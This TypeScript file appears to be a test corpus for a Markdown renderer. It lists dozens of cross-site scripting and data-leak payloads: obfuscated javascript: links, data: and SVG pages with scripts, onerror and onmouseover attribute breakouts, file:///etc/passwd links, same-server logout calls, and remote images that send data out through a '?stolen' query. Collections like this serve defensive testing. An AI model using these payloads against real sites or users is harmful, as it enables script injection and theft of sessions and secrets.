import type { Family } from './attack.ts';

/** Links of Markdown whose address is a script, in every disguise that some parser once fell for. */
export const scriptLinks: Family = {
  name: 'link',
  attacks: {
    plain: ['a script as an address', ({ run }) => `[press me](javascript:${run})`],
    capitals: ['a scheme in mixed case', ({ run }) => `[press me](jAvAsCrIpT:${run})`],
    angle: ['blanks before the scheme, in angle brackets', ({ run }) => `[press me](<   javascript:${run}>)`],
    tab: ['a tab inside the scheme', ({ run }) => `[press me](<java\tscript:${run}>)`],
    tabEntity: ['a tab as an entity', ({ run }) => `[press me](java&Tab;script:${run})`],
    lineEntity: ['a line break as an entity', ({ run }) => `[press me](java&NewLine;script:${run})`],
    colonEntity: ['the colon as an entity', ({ run }) => `[press me](javascript&colon;${run})`],
    decimal: ['letters as decimal entities', ({ run }) => `[press me](&#106;&#97;vascript:${run})`],
    hexadecimal: ['letters as hexadecimal entities', ({ run }) => `[press me](&#x6A;avascript&#x3a;${run})`],
    padded: ['entities with many zeros', ({ run }) => `[press me](&#0000106;avascript:${run})`],
    twice: ['entities that are entities again', ({ run }) => `[press me](&amp;#106;avascript:${run})`],
    percent: ['the colon percent-encoded', ({ run }) => `[press me](javascript%3A${run})`],
    percentScheme: ['the scheme percent-encoded', ({ run }) => `[press me](%6aavascript:${run})`],
    backslash: ['escapes inside the scheme', ({ run }) => `[press me](java\\script\\:${run})`],
    control: ['a control character first', ({ run }) => `[press me](\u0001javascript:${run})`],
    controlEntity: ['a control character as an entity', ({ run }) => `[press me](&#1;javascript:${run})`],
    zeroWidth: ['a blank without width in the scheme', ({ run }) => `[press me](java\u200bscript:${run})`],
    softHyphen: ['a soft hyphen in the scheme', ({ run }) => `[press me](java\u00adscript:${run})`],
    wideLetters: ['full-width letters', ({ run }) => `[press me](ｊavascript:${run})`],
    wideColon: ['a full-width colon', ({ run }) => `[press me](javascript：${run})`],
    bidi: ['marks of direction around the scheme', ({ run }) => `[press me](\u202ejavascript:${run}\u202c)`],
    byteOrder: ['a byte order mark first', ({ run }) => `[press me](\ufeffjavascript:${run})`],
    comment: ['a script that looks like an address', ({ run }) => `[press me](javascript://example.org/%0a${run})`],
    nested: ['a scheme in front of the scheme', ({ run }) => `[press me](feed:javascript:${run})`],
    viewSource: ['the source of a script', ({ run }) => `[press me](view-source:javascript:${run})`],
    vbscript: ['the script of another browser', ({ run }) => `[press me](vbscript:${run})`],
    livescript: ['the oldest name of the scheme', ({ run }) => `[press me](livescript:${run})`],
    reference: ['an address by reference', ({ run }) => `[press me][a]\n\n[a]: javascript:${run} 'x'`],
    collapsed: ['an address by an empty reference', ({ run }) => `[press me][]\n\n[press me]: <javascript:${run}>`],
    autolink: ['a bare address in angle brackets', ({ run }) => `<javascript:${run}>`],
    mail: ['a script behind a mail address', ({ run }) => `<mailto:a@example.org?javascript:${run}>`],
    www: ['a bare address that goes on as a script', ({ run }) => `www.example.org"onmouseover="${run}`],
  },
};

/** Links that are no script and should still lead nowhere, or nowhere else than they say. */
export const otherLinks: Family = {
  name: 'address',
  attacks: {
    page: ['a page as an address', ({ run }) => `[press me](data:text/html,<script>${run}</script>)`],
    packed: [
      'a page as an address, packed',
      ({ run }) => `[press me](data:text/html;base64,${btoa(`<script>${run}</script>`)})`,
    ],
    drawing: ['a drawing as an address', ({ run }) => `[press me](data:image/svg+xml,<svg/onload=${run}>)`],
    xhtml: [
      'a page in another form',
      ({ run }) =>
        `[press me](data:application/xhtml+xml,<script/xmlns='http://www.w3.org/1999/xhtml'>${run}</script>)`,
    ],
    blob: ['a blob of this origin', ({ app }) => `[press me](blob:${app}0b1c2d3e-0000-4000-8000-000000000000)`],
    fileSystem: ['a file of this origin', ({ app }) => `[press me](filesystem:${app}temporary/page.html)`],
    file: ['a file of this machine', () => '[press me](file:///etc/passwd)'],
    otherHost: ['another host without a scheme', ({ at }) => `[press me](${at.replace('http:', '')})`],
    slashes: ['another host by backslashes', ({ at }) => `[press me](<${at.replace('http://', '/\\')}>)`],
    slashTab: ['another host by a tab', ({ at }) => `[press me](</\t${at.replace('http:/', '')}>)`],
    apiCall: ['a call of this server', () => '[press me](/api/auth/logout?canary)'],
    encodedCall: ['a call of this server, encoded', () => '[press me](/%61pi/auth/logout?canary)'],
    climbing: ['a path that climbs', () => '[press me](/settings/../api/auth/logout?canary)'],
    title: ['a title that ends its attribute', ({ run }) => `[press me](https://example.org '" onmouseover="${run}')`],
    quoted: [
      'a title with escaped quotation marks',
      ({ run }) => `[press me](https://example.org "\\" onfocus=${run} \\"")`,
    ],
    inside: ['an address that ends its attribute', ({ run }) => `[press me](https://example.org/"onmouseover="${run})`],
    words: ['tags as the words of a link', ({ run }) => `[<img src=x onerror=${run}>](https://example.org)`],
    double: ['a link in a link', ({ run }) => `[[press me](javascript:${run})](https://example.org)`],
    user: ['a user name that looks like the host', ({ at }) => `[example.org](${at.replace('//', '//example.org@')})`],
    intent: ['an app of a phone', ({ at }) => `[press me](intent:${at}#Intent;scheme=http;end)`],
  },
};

/** Pictures of Markdown. */
export const pictures: Family = {
  name: 'picture',
  attacks: {
    script: ['a script as a picture', ({ run }) => `![x](javascript:${run})`],
    page: ['a page as a picture', ({ run }) => `![x](data:text/html,<script>${run}</script>)`],
    drawing: [
      'a drawing with a script',
      ({ run }) =>
        `![x](data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`)})`,
    ],
    packed: [
      'a drawing with a page in it',
      ({ run, at }) =>
        `![x](data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"><img src="${at}"/></body></foreignObject></svg>`)})`,
    ],
    typed: ['a page that is called a picture', ({ run }) => `![x](data:image/png,<script>${run}</script>)`],
    typeEnd: ['a type that ends the attribute', ({ run }) => `![x](data:image/png"onerror="${run},x)`],
    alt: ['words that end their attribute', ({ run }) => `![" onerror="${run}](https://example.org/a.png)`],
    altTag: ['a tag as the words', ({ run }) => `![<img src=x onerror=${run}>](javascript:${run})`],
    title: ['a title that ends its attribute', ({ run }) => `![x](data:image/png;base64,x '"onerror="${run}')`],
    remote: ['a picture of another host', ({ at }) => `![x](${at}?stolen)`],
    reference: ['a picture of another host by reference', ({ at }) => `![x]\n\n[x]: ${at}`],
    dangling: ['an address that swallows what follows', ({ at }) => `![x](${at}?said=\n\nThe token is 1234.)`],
    ownCall: ['a call of this server', ({ app }) => `![x](${app}api/auth/logout?canary)`],
    otherShare: [
      'the picture of another share',
      () => `![x](/share/${'0'.repeat(32)}/pictures/${'1'.repeat(64)}?canary)`,
    ],
    blob: ['a blob that belongs to somebody else', ({ app }) => `![x](blob:${app}1)`],
    stored: ['a picture in the storage of the reader', () => '![x](parley-blob:../../secret)'],
  },
};
